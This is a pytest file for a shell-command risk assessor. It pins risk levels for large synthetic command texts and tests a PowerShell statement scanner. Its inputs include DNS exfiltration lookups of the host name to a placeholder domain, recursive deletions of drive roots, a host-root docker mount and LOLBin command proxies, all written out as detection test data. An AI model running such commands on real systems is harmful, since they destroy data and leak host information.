"""Speed bar of issue 14 (safety-sp6): 10,000-character shapes aimed at the newest code
paths (the argument-shape pass, the LOLBin catalogues, the fifth-slice families, the
PowerShell binder and its statement scan, DNS exfiltration resolvers, option-run tables),
each with its level pinned, and checks that the PowerShell statement scan and the batch
launchers change no verdict. Timings are the bench's business (`python -m bench.safety`
runs these shapes with the others); tests never assert them."""

from __future__ import annotations

import pytest

from aintern_ls.safety import assess, budget, powershell
from tests.safety.test_safety_sp5_speed import SHELLS, _check


def more_shapes(size: int) -> dict[str, str]:
    n = size
    return {
        # shape.py: unknown programs with destructive verbs, each on its own target
        "unknown programs with delete verbs": "".join(
            f"frobctl{i % 7} purge ./cache{i} --force\n" for i in range(n // 34)
        ),
        # shape.py: one unknown program with thousands of verb-like options and targets
        "unknown program with many verb options": "reclaimd "
        + " ".join(f"--purge-old{i} t{i}" for i in range(n // 20)),
        # catalogues.py: LOLBin command proxies, each running its own command line
        "LOLBin proxies per line": "".join(
            f'mftrace.exe cmd /c "echo {i}"\n' for i in range(n // 30)
        ),
        # catalogues.py / registry: vendor batch launchers (`az.cmd`) and LOLBAS Pester.bat
        "batch launchers per line": "".join(
            f'az.cmd group show -n rg{i}\nPester.bat /help "$null; Write-Host {i}"\n'
            for i in range(n // 66)
        ),
        # families5.py: the fifth slice's families (Azure run-command, event-log limits)
        "fifth-slice families per line": "".join(
            f"Invoke-AzVMRunCommand -ResourceGroupName g{i} -VMName v"
            f" -CommandId RunPowerShellScript -ScriptString 'Get-Date'\n"
            f"Limit-EventLog -LogName App{i} -MaximumSize 64KB\n"
            for i in range(n // 157)
        ),
        # the PowerShell binder: cmdlets with many named parameters and switches
        "PowerShell parameters bound": "".join(
            f"Copy-Item -Path a{i} -Destination b{i} -Recurse -Force -Filter *.txt"
            f" -ErrorAction SilentlyContinue\n"
            for i in range(n // 97)
        ),
        # the PowerShell statement scan: a bash command with `\` continuations pasted into
        # a PowerShell block (every continuation line is a statement starting with `-`)
        "continuation lines pasted into PowerShell": "docker run \\\n"
        + "".join(f"  -v 'a{i};{{x}}':/b{i} -e \"K{i}=v; -x\" \\\n" for i in range(n // 39))
        + "  img",
        # the PowerShell grammar: parameters ending in a digit (read as redirections)
        "parameters ending in digits": "; ".join(f"tool -opt{i} v" for i in range(n // 16)),
        # network.py: DNS lookups whose host name holds a substitution (exfiltration)
        "DNS lookups of substitutions": "".join(
            f'nslookup "$(hostname).{i}.x.example"\n' for i in range(n // 37)
        ),
        # words.glob_candidates: a globbed command word is tried against every known name
        # (in five folders when it has a `/`: 2 ms each before it was paid for)
        "globbed command words per line": "".join(
            f"/u?r/b?n/x{i}* -rf t\n" for i in range(n // 21)
        ),
        # bash.Positions: byte offsets to characters in a text that is not all ASCII
        "non-ASCII words per line": "".join(f"echo é{i} ü ß → 中 # ö\n" for i in range(n // 24)),
        # option-run tables: programs whose option runs a command line
        "option-run commands per line": "".join(
            f"rsync -e 'ssh -p {i}' a b:/c; tar --to-command='cat {i}' -xf t.tar\n"
            for i in range(n // 66)
        ),
    }


SHAPES = more_shapes(10_000)
# Each shape's level in (bash, PowerShell, cmd) when these shapes were written (session 8;
# bash's `mftrace.exe` is no Windows LOLBin, and a bash text that runs out of budget is
# critical: too complex).
LEVELS = {
    # sp14: cut in every shell (each unknown `purge` runs the CLI shapes, now priced:
    # budget.CLI_SHAPE_STEPS; 37-40 ms uncut at 40,400-40,900 steps)
    "unknown programs with delete verbs": ("critical", "critical", "critical"),
    "unknown program with many verb options": ("moderate", "critical", "moderate"),
    # sp12c honest prices: bash now cut (47 ms uncut)
    "LOLBin proxies per line": ("critical", "critical", "critical"),
    "batch launchers per line": ("critical", "critical", "critical"),
    "fifth-slice families per line": ("critical", "critical", "critical"),
    "PowerShell parameters bound": ("moderate", "moderate", "moderate"),
    # sp13b: powershell now cut (its judgement's price 50 -> 60: 33 ms uncut)
    "continuation lines pasted into PowerShell": ("moderate", "critical", "moderate"),
    # sp12c honest prices: bash now cut (72 ms uncut); powershell now cut (72 ms uncut)
    "parameters ending in digits": ("critical", "critical", "moderate"),
    "DNS lookups of substitutions": ("critical", "critical", "critical"),
    # sp12c honest prices: powershell now cut (61 ms uncut). pe10: `--to-command='cat i'`
    # no longer swallows the next line (`_equals_parameters`), so every line's commands are
    # judged and the text is cut by the budget: critical (too complex) is the right verdict.
    # sp14: cmd cut too (budget.BASE_STEPS 17,500 -> 16,000; 38-48 ms uncut at 41,100 steps)
    "option-run commands per line": ("critical", "critical", "critical"),
    # sp13b: bash and cmd cut (each glob is paid for: about 1,500 steps), 1.1 s uncut
    # (PowerShell reads `/u?r/…` as a path, not a command it looks up)
    "globbed command words per line": ("critical", "critical", "critical"),
    # sp13b: every line a distinct command: bash and PowerShell cut (as on main a8a63d8),
    # cmd cut by a cmd judgement's price (CMD_JUDGE_STEPS; 37-39 ms uncut)
    "non-ASCII words per line": ("critical", "critical", "critical"),
}


def test_every_shape_is_about_ten_thousand_characters() -> None:
    assert len(SHAPES) >= 6
    for label, text in SHAPES.items():
        assert 8_000 <= len(text) <= 12_100, (label, len(text))


def test_every_shape_has_a_pinned_level() -> None:
    assert set(LEVELS) == set(SHAPES)


@pytest.mark.parametrize("label", sorted(SHAPES))
def test_shape_keeps_its_level(label: str) -> None:
    for shell, expected in zip(SHELLS, LEVELS[label], strict=True):
        _check(SHAPES[label], shell, expected)


# --- the PowerShell statement scan ------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "statements"),
    [
        ("ls; -name x", ["-name x"]),
        ("find . -name a \\; -name b -exec x \\; -name c", ["-name b -exec x \\", "-name c"]),
        ("docker run \\\n  -v a:/b \\\n  img", ["-v a:/b \\"]),
        ("'a; -b'; ls", []),  # inside a string
        ('"x`"; -b"; ls', []),  # an escaped quote does not end the string
        ("@'\n; -x\n'@\nls", []),  # a here-string
        ("# ; -x\nls", []),  # a comment
        ("-x { rm -rf C:\\ }; ls", ["-x { rm -rf C:\\ }"]),  # its braces are its own
        ("if ($a) { -b c }", ["-b c "]),  # closed by what encloses it
        ("-not $x; -join $y; -split $z; -bnot 1", []),  # unary operators start expressions
        ("-5; ls", []),  # a number
        ("Get-Item x -Force", []),  # parameters after a command
    ],
)
def test_dash_led_statements(text: str, statements: list[str]) -> None:
    assert [text[a:b] for a, b in powershell._dash_statements(text)] == statements


def test_blanking_keeps_every_byte_position() -> None:
    text = "ls é; -name ü x\nGet-Item ö"
    data = text.encode()
    spans = powershell._dash_statements(text)
    blanked = powershell._blank(text, data, spans)
    assert len(blanked) == len(data)
    assert blanked.decode().split("\n")[1] == "Get-Item ö"
    assert b"-name" not in blanked


@pytest.mark.parametrize(
    ("command", "level"),
    [
        # what a dash-led statement holds is still judged, word by word
        ("ls; -x { Remove-Item -Recurse -Force C:\\ }", "blocked"),
        ("find . -name a \\; -exec rm -rf / \\;", "moderate"),
        ("docker run \\\n  -v /:/host \\\n  img", "moderate"),
        ("Get-ChildItem\n-Recurse", "moderate"),
        ("ls; -name x", "moderate"),
        ("-not $true", "safe"),
    ],
)
def test_dash_led_statements_are_judged(command: str, level: str) -> None:
    assert assess(command, "powershell").level.label == level


def test_the_scan_is_paid_for() -> None:
    text = "; ".join(f"-a b{i}" for i in range(500))
    budget.reset()
    budget.start(len(text))
    try:
        powershell._dash_statements(text)
        assert budget.spent() > 0
    finally:
        budget.stop()
